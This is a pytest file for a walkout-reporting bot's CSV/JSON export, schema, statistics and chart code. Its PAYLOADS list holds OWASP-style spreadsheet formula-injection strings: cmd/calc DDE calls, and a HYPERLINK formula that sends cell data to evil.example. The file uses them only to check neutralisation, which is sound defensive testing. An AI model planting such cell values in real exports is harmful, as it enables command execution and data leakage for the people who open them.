"""CSV and JSON exports: formula injection neutralised and parsed back, the documented schema,
Excel-friendly bytes, and statistics with their chart."""

import csv
import io
import json
from datetime import UTC, datetime

import jsonschema
import pytest

from cogs.reports import export
from cogs.reports.chart import render_png
from cogs.reports.stats import compute
from db.reports import EXPORT_COLUMNS, StatsRow
from tests import export_oracle as oracle

STARTS = datetime(2027, 2, 12, 19, 0, tzinfo=UTC)  # 14:00 in Detroit
SUBMITTED = datetime(2027, 2, 12, 21, 30, 5, tzinfo=UTC)
NOW = datetime(2027, 2, 14, 9, 0, tzinfo=UTC)

# OWASP's CSV injection examples and their cousins, each at the start of a cell.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=1,2\n"quoted"',
    "-",
    "@",
]


def row(rid=1, *, school="Cass Tech", what="We walked out.", **kw):
    values = {
        "report_id": rid,
        "walkout_id": 7,
        "school": school,
        "city": "Detroit",
        "timezone": "America/Detroit",
        "walkout_starts_at": STARTS,
        "submitted_at": SUBMITTED,
        "updated_at": None,
        "anonymous": True,
        "turnout": 120,
        "what_happened": what,
        "repercussions": 2 | 4,
        "repercussion_details": None,
        "media_links": "https://example.org/v\nhttps://example.org/p",
    }
    values.update(kw)
    return tuple(values[c] for c in EXPORT_COLUMNS)


async def chunks(*parts):
    for part in parts:
        yield part


async def run(fmt, *parts):
    out = io.BytesIO()
    count = await export.write_export(fmt, chunks(*parts), out, exported_at=NOW)
    return count, out.getvalue()


def parse_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the accents right
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralize_cell_prefixes_a_quote(payload):
    assert export.neutralize_cell(payload) == "'" + payload
    assert export.neutralize_cell("We walked out") == "We walked out"
    assert export.neutralize_cell("") == ""


async def test_csv_injection_payloads_are_neutralised_quoted_and_parse_back():
    rows = [row(i + 1, school=p, what=p, repercussion_details=p) for i, p in enumerate(PAYLOADS)]
    count, data = await run("csv", rows[:4], rows[4:])
    assert count == len(PAYLOADS)
    parsed = parse_csv(data)
    for payload, line in zip(PAYLOADS, parsed, strict=True):
        for column in ("school", "what_happened", "repercussion_details"):
            assert line[column] == "'" + payload
    text = data.decode("utf-8-sig")
    for payload in PAYLOADS:
        quoted = '"' + ("'" + payload).replace('"', '""') + '"'
        assert quoted in text  # the neutralised cell is quoted, never bare
    # No line of the file starts a cell with a formula character outside quotes.
    reader = csv.reader(io.StringIO(text, newline=""))
    for cells in reader:
        assert not any(cell.startswith(export.FORMULA_STARTS) for cell in cells)


async def test_csv_columns_times_and_numbers():
    _, data = await run("csv", [row(updated_at=NOW, anonymous=False, turnout=None)], [row(2)])
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == ",".join(f'"{c}"' for c in export.CSV_COLUMNS)
    first, second = parse_csv(data)
    assert first["walkout_start_utc"] == "2027-02-12T19:00:00Z"
    assert first["walkout_start_local"] == "2027-02-12T14:00:00-05:00"
    assert first["submitted_local"] == "2027-02-12T16:30:05-05:00"
    assert first["updated_utc"] == "2027-02-14T09:00:00Z"
    assert (first["anonymous"], second["anonymous"]) == ("no", "yes")
    assert (first["turnout"], second["turnout"]) == ("", "120")
    assert first["repercussions"] == "police; arrest"
    assert first["media_links"] == "https://example.org/v https://example.org/p"
    assert "\r\n2," in text  # numbers are written bare (RFC 4180 CRLF rows)


async def test_an_empty_export_is_a_header_only():
    count, data = await run("csv")
    assert count == 0 and parse_csv(data) == []
    count, data = await run("json")
    assert count == 0 and json.loads(data)["reports"] == []


async def test_json_matches_its_documented_schema_with_numbers_as_numbers():
    schema = json.loads(export.SCHEMA_PATH.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    rows = [
        row(1),
        row(2, turnout=None, repercussions=None, media_links=None, what=None),
        row(3, repercussions=0, updated_at=NOW, anonymous=False, what="=1+1 ñ 🙂"),
    ]
    count, data = await run("json", rows[:1], [], rows[1:])
    doc = json.loads(data)
    jsonschema.validate(doc, schema)
    assert count == 3 and doc["format"] == "walkout-bot/reports" and doc["version"] == 1
    first, second, third = doc["reports"]
    assert first["turnout"] == 120 and isinstance(first["report_id"], int)
    assert first["repercussions"] == ["police", "arrest"]
    assert first["media_links"] == ["https://example.org/v", "https://example.org/p"]
    assert (second["turnout"], second["repercussions"], second["media_links"]) == (None, None, [])
    assert third["repercussions"] == ["none"] and third["what_happened"] == "=1+1 ñ 🙂"
    assert "ñ" in data.decode("utf-8")  # UTF-8, not \\u escapes
    bad = dict(first, turnout="120")
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({**doc, "reports": [bad]}, schema)


def test_filename_carries_no_server_name():
    assert export.filename("csv", now=NOW) == "reports-2027-02-14.csv"


def stats_row(wid, turnout, bits, city="Detroit"):
    return StatsRow(wid, f"School {wid}", city, STARTS, turnout, bits)


def test_stats_count_turnout_per_walkout_and_repercussions_per_report():
    rows = [
        stats_row(1, 100, 2),
        stats_row(1, 150, 2 | 4),  # two reports of one walkout: the bigger count
        stats_row(2, None, 0, city=" detroit "),
        stats_row(3, 40, None, city="Ann Arbor"),
        stats_row(4, 10, 8, city="Ypsilanti"),
    ]
    stats = compute(rows)
    assert (stats.walkouts, stats.reports) == (4, 5)
    assert stats.turnout_total == 200 and stats.turnout_median == 40
    assert stats.repercussions == {
        "discipline": 0, "police": 2, "arrest": 1, "ice": 1, "injury": 0, "none": 1
    }  # fmt: skip
    detroit = stats.cities[0]
    assert (detroit.city, detroit.walkouts, detroit.reports, detroit.turnout) == (
        "Detroit", 2, 3, 150
    )  # fmt: skip
    assert [w.turnout for w in stats.per_walkout] == [150, None, 40, 10]


def test_stats_of_nothing():
    stats = compute([])
    assert (stats.walkouts, stats.reports, stats.turnout_total, stats.turnout_median) == (
        0, 0, 0, None
    )  # fmt: skip


@pytest.mark.parametrize("rows", [[], [stats_row(i, i * 10, i % 32) for i in range(1, 40)]])
def test_chart_is_a_png(rows):
    labels = {
        "turnout_title": "Turnout",
        "repercussions_title": "Repercussions",
        "people": "people",
        "reports": "reports",
        "no_turnout": "?",
    }
    kinds = {"police": "Police 🚓", "none": "Ninguna"}
    png = render_png(compute(rows), labels=labels, kinds=kinds)
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 1000


# ----------------------------------------------------------------------------- byte for byte

CORPUS = oracle.rows()


def as_stored(row):
    """The row as SQLite hands it over: instants as stored text, the flag as 0/1."""
    r = list(row)
    r[5], r[6], r[7] = oracle.stored(r[5]), oracle.stored(r[6]), oracle.stored(r[7])
    r[8] = int(r[8])
    return tuple(r)


def without_walkouts(row):
    """The row as ``db/export_sqlite.py`` reads it: the walkout's own columns left out."""
    return (*row[:2], None, None, None, None, *row[6:])


def in_chunks(rows, sizes=(1, 0, 7, 64, 250)):
    out, i, k = [], 0, 0
    while i < len(rows):
        size = sizes[k % len(sizes)]
        out.append(rows[i : i + size])
        i, k = i + size, k + 1
    return out


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("shape", ["datetimes", "stored text"])
async def test_writers_match_the_first_export_byte_for_byte(fmt, shape):
    """Injection payloads, quotes, control characters, Unicode, nulls, and instants around every
    offset change of 2026-2027 in zones with DST, half-hour and 45-minute offsets, a 30-minute
    DST shift, negative DST, and local mean time with seconds: what the cached formatter writes
    is what csv.writer and json.dumps over datetimes wrote."""
    rows = CORPUS if shape == "datetimes" else [as_stored(r) for r in CORPUS]
    expected = oracle.export_bytes(fmt, CORPUS, exported_at=NOW)
    _, data = await run(fmt, *in_chunks(rows))
    assert data == expected


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_rows_without_walkout_columns_take_them_from_the_source(fmt):
    rows = [as_stored(r) for r in CORPUS]
    walkouts = {r[1]: r[2:6] for r in rows}
    asked = []

    def source(wid):
        asked.append(wid)
        return walkouts[wid]

    out = io.BytesIO()
    chunks = in_chunks([without_walkouts(r) for r in rows])
    count = export.write_export_sync(fmt, chunks, out, exported_at=NOW, walkouts=source)
    assert count == len(rows)
    assert out.getvalue() == oracle.export_bytes(fmt, CORPUS, exported_at=NOW)
    assert sorted(asked) == sorted(walkouts)  # once per walkout


def test_the_corpus_crosses_offset_changes_and_odd_offsets():
    zones = {r[4] for r in CORPUS}
    assert {"Australia/Lord_Howe", "Asia/Kathmandu", "America/St_Johns"} <= zones
    changes = [
        r for r in CORPUS if any(abs((r[6] - t).total_seconds()) <= 1 for t in TRANSITIONS[r[4]])
    ]
    assert len(changes) > 10
    assert any(r[6].year < 1900 for r in CORPUS)  # local mean time: offsets with seconds


TRANSITIONS = {
    zone: oracle.transitions(
        zone, datetime(2026, 1, 1, tzinfo=UTC), datetime(2028, 1, 1, tzinfo=UTC)
    )
    for zone in oracle.ZONES
}
